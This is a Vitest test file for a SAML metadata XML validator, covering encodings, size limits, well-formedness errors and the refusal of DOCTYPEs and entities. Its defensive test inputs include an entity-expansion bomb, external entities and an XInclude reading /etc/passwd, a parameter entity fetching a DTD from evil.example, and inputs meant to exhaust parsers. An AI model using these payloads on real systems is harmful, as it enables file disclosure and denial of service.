import { describe, expect, it } from "vitest";
import { parseXml } from "../../../src/idp/metadata/xml/parse.js";
import { placesIn } from "../../../src/idp/metadata/xml/places.js";
import { checked, findings, fixture } from "./checked.js";

const good = fixture("good/okta").toString();
const declaration = '<?xml version="1.0" encoding="UTF-8"?>';
const body = good.slice(declaration.length);
/** The good file with something in front of its root element. */
const inFront = (text: string) => `${declaration}${text}${body}`;
/** The good file with something at the end of its root element. */
const inside = (text: string) => good.replace("</md:EntityDescriptor>", `${text}</md:EntityDescriptor>`);
const utf16 = (text: string, order: "le" | "be", mark: boolean) => {
  const bytes = Buffer.from(`${mark ? "\uFEFF" : ""}${text}`, "utf16le");
  return order === "le" ? bytes : bytes.swap16();
};

it("the file that is changed here is good, and stays so with what is allowed", () => {
  const allowed =
    '<!-- a comment --><?a b?>\n<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>';
  for (const text of [
    good,
    inside(allowed),
    `\uFEFF${good}`,
    good.replaceAll("\n", "\r\n"),
    `${good}\n<?a?><!-- -->`,
  ]) {
    expect(findings(text)).toEqual([]);
    expect(checked(text).subject?.metadata.entityId?.value).toBe("http://www.okta.com/exkfixture000000001");
  }
});

describe("a document type or an entity is refused before anything is parsed", () => {
  const bomb = '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>';
  it.each([
    ["a DOCTYPE", inFront("<!DOCTYPE a>")],
    ["in small letters", inFront("<!doctype a>")],
    ["an entity bomb", inFront(bomb).replace("exkfixture", "&c;")],
    [
      "an external entity",
      inFront('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>').replace("exkfixture", "&b;"),
    ],
    ["a parameter entity", inFront('<!DOCTYPE a [<!ENTITY % b SYSTEM "https://evil.example/x.dtd"> %b;]>')],
    ["where it would be harmless", inside("<!-- <!DOCTYPE a> -->")],
    ["UTF-16 with a mark", utf16(inFront(bomb).replace("UTF-8", "UTF-16"), "le", true)],
    ["UTF-16 without a mark", utf16(inFront(bomb).replace("UTF-8", "UTF-16"), "le", false)],
    ["UTF-16, the other way around", utf16(inFront(bomb).replace("UTF-8", "UTF-16"), "be", false)],
  ])("%s", (_what, content) => {
    const { subject, diagnostics } = checked(content);
    expect(subject).toBe(null);
    expect(diagnostics.filter((d) => d.severity === "error")).toMatchObject([{ code: "IDC703" }]);
  });
});

describe("what is not well-formed is said with its place", () => {
  it.each([
    ["an empty file", "", "1:1 not well-formed XML: document must contain a root element"],
    ["only white space", " \n", "1:2 not well-formed XML: document must contain a root element"],
    [
      "an end that is missing",
      good.replace("</md:EntityDescriptor>", ""),
      "1:39 not well-formed XML: unclosed tag: md:EntityDescriptor",
    ],
    [
      "a NUL",
      good.replace("exkfix", "exk\0fix"),
      "1:93 not well-formed XML: the character U+0000 is not allowed",
    ],
    [
      "half a surrogate pair, in UTF-16",
      utf16(good.replace("UTF-8", "UTF-16").replace("exkfix", "exk\ud800fix"), "le", true),
      "1:94 the bytes here are not UTF-16LE",
    ],
    ["two roots", `${good}<a/>`, "15:681 not well-formed XML: documents may contain only one root"],
    [
      "text behind the root",
      `${good} <?a?><!-- -->\na <?a?>`,
      "16:1 not well-formed XML: text data outside of root node",
    ],
    ["CDATA behind the root", `${good}<![CDATA[ ]]>`, "text data outside of root node"],
    ["a reference behind the root", `${good}&#32;`, "text data outside of root node"],
    [
      "a comment in a value",
      good.replace("okta.com/exk", "good<!---->.evil"),
      '1:85 not well-formed XML: "<" in the value of an attribute; as a character it is written &lt;',
    ],
    ["an unknown entity", good.replace("exkfixture", "&nbsp;"), "1:90 not well-formed XML: undefined entity"],
    [
      "a bare &",
      good.replace("exkfixture", "a & b"),
      '1:92 not well-formed XML: a "&" that stands for itself is written &amp;',
    ],
    ["an entity that objects have", good.replace("exkfixture", "&constructor;"), "undefined entity"],
    ["another one", good.replace("exkfixture", "&__proto__;"), "undefined entity"],
    [
      "a bare & behind one in a comment",
      inside("<!-- R&D --><?a R&D?><a><![CDATA[R&D]]>b & c</a>"),
      '15:700 not well-formed XML: a "&" that stands for itself is written &amp;',
    ],
    [
      "an & in a comment without end",
      inside("<!-- R&D "),
      "15:659 not well-formed XML: the file ends before",
    ],
    [
      "an & in a comment, and an end that is missing",
      good.replace("?>", "?><!-- R&D -->").replace("</md:EntityDescriptor>", ""),
      "unclosed tag: md:EntityDescriptor",
    ],
    ["two byte order marks", `\uFEFF\uFEFF${good}`, "1:1 not well-formed XML: the character U+FEFF"],
    ["a bare & in a text", inside("<a>b & c</a>"), 'a "&" that stands for itself is written &amp;'],
    ["a reference to NUL", good.replace("exkfixture", "&#0;"), "malformed character entity"],
    [
      "what only XML 1.1 has",
      inside("<a>&#1;</a>").replace('version="1.0"', 'version="1.1"'),
      "malformed character entity",
    ],
    ["a reference beyond Unicode", good.replace("exkfixture", "&#x110000;"), "malformed character entity"],
    ["no quotes", inside("<a b=c/>"), "unquoted attribute value"],
    ["no value", inside("<a b/>"), "disallowed character in attribute name"],
    ["no space between attributes", inside('<a b="1"c="2"/>'), "no whitespace between attributes"],
    ["a value without end", inside('<a b="1/>'), '"<" in the value of an attribute'],
    ["an attribute twice", inside('<a b="1" b="2"/>'), "duplicate attribute: b"],
    [
      "an attribute twice, by two prefixes",
      inside('<a xmlns:p="urn:p" xmlns:q="urn:p" p:b="1" q:b="2"/>'),
      "duplicate attribute: {urn:p}b",
    ],
    [
      "an attribute that objects have",
      inside('<a hasOwnProperty="1" b="2" b="3"/>'),
      "duplicate attribute: b",
    ],
    ["a prefix that is not declared", inside("<p:a/>"), 'unbound namespace prefix: "p"'],
    ["a prefix that objects have", inside("<constructor:a/>"), 'unbound namespace prefix: "constructor"'],
    ["an attribute's prefix", inside('<a p:b="1"/>'), 'unbound namespace prefix: "p"'],
    ["two colons", inside('<a xmlns:p="urn:p"><p:b:c/></a>'), "malformed name: p:b:c"],
    ["a name that begins with a number", inside('<a xmlns:p="urn:p"><p:7/></a>'), "malformed name: 7"],
    [
      "a namespace with a space",
      inside('<a xmlns:p="urn:p "/>'),
      "white space around the namespace of xmlns:p",
    ],
    ["a prefix for nothing", inside('<a xmlns:p=""/>'), "invalid attempt to undefine prefix in XML 1.0"],
    [
      "xml for something else",
      inside('<a xmlns:xml="urn:p"/>'),
      "xml prefix must be bound to http://www.w3.org/XML/1998/namespace",
    ],
    [
      "end tags in the wrong order",
      inside("<a><b></a></b>"),
      "15:665 not well-formed XML: </a> stands where <b> of line 15",
    ],
    ["an end tag in other letters", inside("<a></A>"), "</A> stands where <a> of line"],
    ["an end tag too many", `</a>${good}`, "unmatched closing tag: a"],
    ["an end tag that is cut off", inside("<a></a"), "disallowed character in closing tag"],
    ["a tag without name", inside("< a/>"), '15:659 not well-formed XML: "<" begins no tag'],
    ["a comment without end", inside("<!-- "), "15:659 not well-formed XML: the file ends before"],
    ["a comment with --", inside("<!-- a -- b -->"), "malformed comment"],
    ["CDATA without end", inside("<![CDATA[ "), "15:659 not well-formed XML: the file ends before"],
    ["CDATA without beginning", inside(" ]]> "), 'the string "]]>" is disallowed in char data'],
    ["an instruction without end", inside("<?a "), "15:659 not well-formed XML: the file ends before"],
    ["a declaration that is late", ` ${good}`, "an XML declaration must be at the start of the document"],
    ["a declaration with mistakes", good.replace('version="1.0" ', ""), "expected one of version"],
  ])("%s", (_what, content, message) => {
    expect(findings(content).filter((f) => !f.includes("AWS does not say"))).toEqual([
      expect.stringContaining(message),
    ]);
  });
});

it.each([
  ["in a text", "<a>\ud83dx</a>", 4],
  ["that hides a tag", "<a>\ud83d<b></a>", 4],
  ["at the end of a comment", "<!--\ud83d", 5],
  ["at the end of a comment, behind -", "<!---\ud83d", 6],
  ["the second half", '<a b="\ude00"/>', 7],
])("half of a pair is refused %s", (_what, text, column) => {
  const fault = parseXml(text, placesIn(text, "m.xml"));
  expect(fault).toMatchObject({ code: "IDC704", start: column - 1, end: column });
});

it("CDATA is text, and places count what is written", () => {
  const text = '<a>\r\n\u{1f600}<![CDATA[&lt;\r\n]]>x<b c=\'\u{1f600}"\' d=""/>y</a>';
  const root = parseXml(text, placesIn(text, "m.xml"));
  const at = (line: number, column: number, endColumn: number) => ({
    line,
    column,
    endLine: line,
    endColumn,
  });
  expect(root).toMatchObject({
    text: "\n\u{1f600}&lt;\nxy",
    inside: { line: 2, column: 1, endLine: 3, endColumn: 23 },
    children: [
      {
        span: at(3, 5, 22),
        attributes: [
          { name: "c", value: '\u{1f600}"', span: at(3, 11, 14) },
          { name: "d", value: "", span: at(3, 19, 19) },
        ],
      },
    ],
  });
});

it("a message is no longer than a person reads", () => {
  for (const text of [`<${"a".repeat(900_000)}></c>`, `<${"p".repeat(900_000)}:a/>`]) {
    expect(findings(text).map((f) => f.length < 300 && f.endsWith("…"))).toContain(true);
  }
});

describe("encodings", () => {
  it("UTF-16 is read, with a warning", () => {
    for (const order of ["le", "be"] as const) {
      const bytes = utf16(good.replace("UTF-8", "UTF-16"), order, true);
      expect(findings(bytes)).toEqual([
        `IDC702 1:1 the file is UTF-16${order.toUpperCase()}, and AWS does not say that it takes that`,
      ]);
      expect(checked(bytes).subject?.recognized?.provider).toBe("okta");
    }
  });

  it.each([
    [
      "UTF-16 that says UTF-8",
      utf16(good, "le", true),
      '1:1 the file says that its encoding is "UTF-8", and it is UTF-16LE',
    ],
    [
      "UTF-8 that says UTF-16",
      good.replace("UTF-8", "utf-16"),
      '1:1 the file says that its encoding is "utf-16", and it is UTF-8',
    ],
    [
      "UTF-8 that says Latin 1",
      inside("<!-- ä -->").replace("UTF-8", "ISO-8859-1"),
      '1:1 the file says that its encoding is "ISO-8859-1"',
    ],
    ["Latin 1", Buffer.from(inside("<!-- ä -->"), "latin1"), "15:664 the bytes here are not UTF-8"],
  ])("%s is an error", (_what, content, message) => {
    expect(findings(content)).toEqual([expect.stringContaining(`IDC702 ${message}`)]);
  });

  it("ASCII may be called by another name", () => {
    expect(findings(good.replace("UTF-8", "windows-1252"))).toEqual([]);
    expect(findings(good.replace(' encoding="UTF-8"', ""))).toEqual([]);
  });
});

describe("bounds", () => {
  it.each([
    [
      "a megabyte and a byte",
      Buffer.alloc(1_000_001, 0x20),
      "- m.xml has more than 1 MB, so it is no metadata",
    ],
    ["what was not read", null, "- m.xml has more than 1 MB, so it is no metadata"],
    [
      "100,000 elements inside each other",
      "<a>".repeat(100_000),
      "1:151 more than 50 elements inside each other",
    ],
    ["100,000 elements", `<a>${"<b/>".repeat(100_000)}</a>`, "more than 5000 elements"],
    [
      "100,000 attributes",
      `<a${Array.from({ length: 100_000 }, (_, i) => ` a${i}=""`).join("")}/>`,
      "more attributes than any metadata has",
    ],
  ])("%s", (_what, content, message) => {
    expect(
      findings(content ?? "", content === null ? { bytes: null } : {}).filter(
        (f) => !f.includes("AWS takes"),
      ),
    ).toEqual([expect.stringContaining(message)]);
  });

  it("AWS takes 75,000 characters; the rest is still checked", () => {
    const long = (n: number) => inside(`<!--${"x".repeat(n - inside("<!---->").length)}-->`);
    expect(findings(long(75_000))).toEqual([]);
    expect(findings(long(75_001))).toEqual(["IDC701 1:1 the file has 75001 characters; AWS takes 75000"]);
    expect(checked(long(75_001)).subject?.recognized?.provider).toBe("okta");
  });

  it.each([
    ["tags that are not closed", "<a ".repeat(300_000)],
    ["references without end", `<a>${"&".repeat(900_000)}</a>`],
    ["comments that are not closed", `<a>${"<!- ".repeat(200_000)}`],
    ["white space", `<a${" ".repeat(900_000)}`],
    [
      "namespaces",
      `<a ${Array.from({ length: 2_400 }, (_, i) => `xmlns:a${i}="u"`).join(" ")}>${'<b xmlns:c="u"/>'.repeat(2_400)}</a>`,
    ],
    ["lines", `<a>${"\n".repeat(900_000)}</a>`],
    ["signatures", `<a xmlns="urn:oasis:names:tc:SAML:2.0:metadata">${"<Signature/>".repeat(4_900)}</a>`],
  ])("%s: a megabyte of them takes no time", (_what, content) => {
    const before = process.cpuUsage();
    expect(findings(content).length).toBeGreaterThan(0);
    const { user, system } = process.cpuUsage(before);
    // Of this process alone: a busy machine must not fail a change. What is quadratic takes minutes.
    expect((user + system) / 1_000_000).toBeLessThan(10);
  });
});

it("a file that ends anywhere is never good", () => {
  const bytes = fixture("good/entra");
  for (let length = 0; length < bytes.length; length += 53) {
    expect(findings(bytes.subarray(0, length))).toEqual([expect.stringMatching(/^IDC70[24] /)]);
  }
});
